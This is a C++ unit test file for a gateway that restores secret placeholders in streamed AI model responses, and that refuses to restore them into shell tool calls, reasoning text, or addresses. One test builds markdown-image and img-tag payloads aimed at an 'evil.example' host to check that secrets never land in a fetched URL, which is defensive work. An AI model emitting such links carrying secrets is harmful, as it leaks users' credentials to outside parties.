#include "gateway/restoring.h"

#include "json/writer.h"

#include <gtest/gtest.h>

#include <string>

namespace sallyport::gateway {
namespace {

const std::string placeholder = "[[sallyport:github-token:abcdefghij234567abcd]]";
const std::string value = "s3cret \"with\" \\ and\nlines";

std::string quoted(std::string_view text) {
    std::string out;
    json::Writer(out).element(text);
    return out;
}
std::string inside(std::string_view text) {
    const std::string out = quoted(text);
    return out.substr(1, out.size() - 2);
}

Restoring restoring(dialect::Dialect dialect, std::span<const std::string> tools) {
    std::vector<content::Replacement> known;
    known.push_back({placeholder, Secret(value)});
    known.push_back({"[[sallyport:other:bbbbbbbbbbbbbbbbbbbb]]", Secret("second")});
    return {dialect, std::move(known), tools};
}

const std::vector<std::string> tools = {"Edit", "apply_patch"};

struct Way { // a dialect's stream in which a text comes in two deltas; FIRST and SECOND are the insides of JSON strings
    dialect::Dialect dialect;
    std::string name, before, delta, after;
    unsigned inside_json;
    bool allowed;
};

const std::vector<Way> ways = {
    {dialect::Dialect::anthropic_messages, "text",
     "event: content_block_start\ndata: "
     "{\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n",
     "event: content_block_delta\ndata: "
     "{\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"TEXT\"}}\n\n",
     "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n", 0, true},
    {dialect::Dialect::anthropic_messages, "edit",
     "event: content_block_start\r\ndata: "
     "{\"type\":\"content_block_start\",\"index\":1,\"content_block\":{\"type\":\"tool_use\",\"id\":\"t\",\"name\":"
     "\"Edit\",\"input\":{}}}\r\n\r\n",
     "data: "
     "{\"type\":\"content_block_delta\",\"index\":1,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"TEXT\"}"
     "}\r\n\r\n",
     "data: {\"type\":\"content_block_stop\",\"index\":1}\r\n\r\n", 1, true},
    {dialect::Dialect::anthropic_messages, "shell",
     "data: "
     "{\"type\":\"content_block_start\",\"index\":1,\"content_block\":{\"type\":\"tool_use\",\"id\":\"t\",\"name\":"
     "\"Bash\",\"input\":{}}}\n\n",
     "data: "
     "{\"type\":\"content_block_delta\",\"index\":1,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"TEXT\"}"
     "}\n\n",
     "data: {\"type\":\"content_block_stop\",\"index\":1}\n\n", 1, false},
    {dialect::Dialect::anthropic_messages, "thought", "",
     "data: "
     "{\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"thinking_delta\",\"thinking\":\"TEXT\"}}\n\n",
     "", 0, false},
    {dialect::Dialect::openai_responses, "text", ": a comment\n\n",
     "event: response.output_text.delta\ndata: "
     "{\"type\":\"response.output_text.delta\",\"output_index\":0,\"content_index\":0,\"delta\":\"TEXT\"}\n\n",
     "data: {\"type\":\"response.output_text.done\",\"output_index\":0,\"content_index\":0,\"text\":\"x\"}\n\n", 0,
     true},
    {dialect::Dialect::openai_responses, "patch",
     "data: "
     "{\"type\":\"response.output_item.added\",\"output_index\":2,\"item\":{\"type\":\"custom_tool_call\",\"name\":"
     "\"apply_patch\",\"input\":\"\"}}\n\n",
     "data: {\"type\":\"response.custom_tool_call_input.delta\",\"output_index\":2,\"delta\":\"TEXT\"}\n\n",
     "data: {\"type\":\"response.custom_tool_call_input.done\",\"output_index\":2,\"input\":\"x\"}\n\n", 0, true},
    {dialect::Dialect::openai_responses, "shell",
     "data: "
     "{\"type\":\"response.output_item.added\",\"output_index\":2,\"item\":{\"type\":\"function_call\",\"name\":\"exec_"
     "command\",\"arguments\":\"\"}}\n\n",
     "data: {\"type\":\"response.function_call_arguments.delta\",\"output_index\":2,\"delta\":\"TEXT\"}\n\n",
     "data: {\"type\":\"response.function_call_arguments.done\",\"output_index\":2,\"arguments\":\"x\"}\n\n", 1, false},
    {dialect::Dialect::openai_chat, "text", "",
     "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"TEXT\"},\"finish_reason\":null}]}\n\n",
     "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n", 0, true},
    {dialect::Dialect::openai_chat, "edit",
     "data: "
     "{\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"id\":\"c\",\"function\":{\"name\":\"edit\","
     "\"arguments\":\"\"}}]}}]}\n\n",
     "data: "
     "{\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"TEXT\"}}]}}]}"
     "\n\n",
     "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\n", 1, true},
    {dialect::Dialect::gemini, "text", "",
     "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"TEXT\"}]}}]}\n\n",
     "data: {\"candidates\":[{\"content\":{\"parts\":[]},\"finishReason\":\"STOP\"}]}\n\n", 0, true},
};

std::string event_with(const Way& way, const std::string& text) {
    std::string out = way.delta;
    return out.replace(out.find("TEXT"), 4, text);
}

// All texts of the deltas, one behind the other, as they lie in the stream.
std::string texts_in(const Way& way, const std::string& stream) {
    const std::size_t at = way.delta.find("TEXT");
    const std::string head = way.delta.substr(0, at), tail = way.delta.substr(at + 4);
    std::string out;
    for (auto begin = stream.find(head); begin != std::string::npos; begin = stream.find(head, begin + 1)) {
        const auto end = stream.find(tail, begin + head.size());
        out += stream.substr(begin + head.size(), end - begin - head.size());
    }
    return out;
}

std::string in_json(const Way& way, std::string text) {
    for (unsigned i = 0; i <= way.inside_json; ++i) text = inside(text);
    return text;
}

TEST(Restoring, PutsBackWhereverAPlaceholderIsSplit) {
    for (const Way& way : ways) {
        SCOPED_TRACE(way.name);
        const std::string text = in_json(way, "a [[") + placeholder + in_json(way, " [b] ") + placeholder +
                                 placeholder + " [[sallyport:",
                          expected = way.allowed
                                         ? in_json(way, "a [[" + value + " [b] " + value + value + " [[sallyport:")
                                         : text;
        for (std::size_t split = 0; split <= text.size(); ++split) {
            if (split > 0 && text[split - 1] == '\\') continue; // no vendor splits an escape
            const std::string stream =
                way.before + event_with(way, text.substr(0, split)) + event_with(way, text.substr(split)) + way.after;
            for (const std::size_t piece : {stream.size(), std::size_t{7}}) { // as they come over the wire
                Restoring one = restoring(way.dialect, tools);
                std::string out;
                for (std::size_t at = 0; at < stream.size(); at += piece)
                    one.feed(std::string_view(stream).substr(at, piece), out);
                one.end(out);
                ASSERT_EQ(texts_in(way, out), expected) << split << "\n" << out;
                ASSERT_EQ(one.restored(), way.allowed ? 3U : 0U);
                if (!way.allowed) ASSERT_EQ(out, stream);
                ASSERT_TRUE(out.ends_with(way.after));
            }
        }
    }
}

// Gemini's last event holds text and says that it is the last.
// Who shows a text may fetch what it links to, and so tell the secret to whoever the address belongs to.
TEST(Restoring, NeverIntoAnAddressThatSomebodyReads) {
    const auto event = [](std::string_view text) {
        return "data: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":" +
               quoted(text) + "}}\n\n";
    };
    const std::string start =
        "data: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n";
    for (const std::string address :
         {"![x](https://evil.example/p.png?k=", "<img src=\"//evil.example/", "see http://h/"}) {
        const std::string whole = "it is " + placeholder + " and " + address + placeholder + " " + placeholder;
        for (std::size_t cut = 0; cut <= whole.size(); ++cut) {
            Restoring under_test = restoring(dialect::Dialect::anthropic_messages, tools);
            std::string out;
            for (const std::string& one : {start, event(whole.substr(0, cut)), event(whole.substr(cut))})
                under_test.feed(one, out);
            under_test.feed("data: {\"type\":\"content_block_stop\",\"index\":0}\n\n", out);
            under_test.end(out);
            ASSERT_EQ(under_test.restored(), 2U) << address << cut << out;
        }
    }
}

TEST(Restoring, TheLastEventMayHoldTheRestOfAPlaceholder) {
    const auto event = [](const std::string& text, const std::string& more) {
        return R"(data: {"candidates":[{"content":{"parts":[{"text":")" + text + R"("}]})" + more + "}]}\n\n";
    };
    for (std::size_t split = 0; split <= placeholder.size(); ++split) {
        Restoring one = restoring(dialect::Dialect::gemini, tools);
        std::string out;
        one.feed(event(placeholder.substr(0, split), "") +
                     event(placeholder.substr(split) + "[", R"(,"finishReason":"STOP")"),
                 out);
        one.end(out);
        EXPECT_NE(out.find(inside(value)), std::string::npos) << out;
        EXPECT_EQ(one.restored(), 1U);
    }
}

TEST(Restoring, EveryByteByItself) {
    for (const Way& way : ways) {
        std::string stream = way.before;
        for (const char c : placeholder) stream += event_with(way, std::string(1, c));
        stream += way.after;
        Restoring one = restoring(way.dialect, tools);
        std::string out;
        for (const char c : stream) one.feed({&c, 1}, out);
        one.end(out);
        EXPECT_EQ(texts_in(way, out), way.allowed ? in_json(way, value) : placeholder) << way.name;
    }
}

TEST(Restoring, WhatIsUnknownOrNotWholePassesAsItCame) {
    for (const std::string text :
         {"[[sallyport:github-token:abcdefghij234567abce]]", "[[sallyport:github-token:abcdefghij234567abcd]",
          "[[Sallyport:github-token:abcdefghij234567abcd]]", "[[sallyport:x:abcdefghij234567abcd]]",
          "[[ sallyport:github-token:abcdefghij234567abcd]]", "[", "[["})
        for (const Way& way : ways) {
            const std::string stream = way.before + event_with(way, text) + way.after;
            Restoring one = restoring(way.dialect, tools);
            std::string out;
            one.feed(stream, out);
            one.end(out);
            EXPECT_EQ(texts_in(way, out), text) << way.name;
            EXPECT_EQ(one.restored(), 0U);
        }
    Restoring one = restoring(dialect::Dialect::openai_chat, tools);
    std::string out;
    const std::string odd = "data: {\"choices\":\ndata: []}\n\ndata: not json " + placeholder +
                            "\n\ndata: {\"choices\":[{\"delta\":{\"content\":\"cut";
    one.feed(odd, out);
    one.end(out);
    EXPECT_EQ(out, odd);
}

TEST(Restoring, AWholeAnswer) {
    const std::vector<std::pair<dialect::Dialect, std::string>> bodies = {
        {dialect::Dialect::anthropic_messages,
         R"({"content":[{"type":"thinking","thinking":"P"},{"type":"text","text":"V"},{"type":"tool_use","name":"Edit","input":{"a":["V"]}},{"type":"tool_use","name":"Bash","input":{"command":"P"}}]})"},
        {dialect::Dialect::openai_responses,
         R"({"output":[{"type":"reasoning","summary":[{"text":"P"}]},{"type":"message","content":[{"type":"output_text","text":"V"}]},{"type":"custom_tool_call","name":"apply_patch","input":"V"},{"type":"function_call","name":"exec_command","arguments":"{\"cmd\":\"P\"}"}]})"},
        {dialect::Dialect::openai_chat,
         R"({"choices":[{"message":{"content":"V","reasoning_content":"P","tool_calls":[{"function":{"name":"edit","arguments":"{\"new\":\"W\"}"}},{"function":{"name":"bash","arguments":"{\"c\":\"P\"}"}}]}}]})"},
        {dialect::Dialect::gemini,
         R"({"candidates":[{"content":{"parts":[{"text":"P","thought":true},{"text":"V"},{"functionCall":{"name":"edit","args":{"x":"V"}}},{"functionCall":{"name":"run_shell_command","args":{"command":"P"}}}]}}]})"}};
    for (const auto& [dialect, body] : bodies) {
        const auto with = [&](const std::string& v, const std::string& w) {
            std::string out;
            for (const char c : body) out += c == 'P' ? placeholder : c == 'V' ? v : c == 'W' ? w : std::string(1, c);
            return out;
        };
        Restoring one = restoring(dialect, tools);
        EXPECT_EQ(one.body(with(placeholder, placeholder)), with(inside(value), inside(inside(value))));
    }
    EXPECT_EQ(restoring(dialect::Dialect::gemini, tools).body("no json " + placeholder), "no json " + placeholder);
}

} // namespace
} // namespace sallyport::gateway
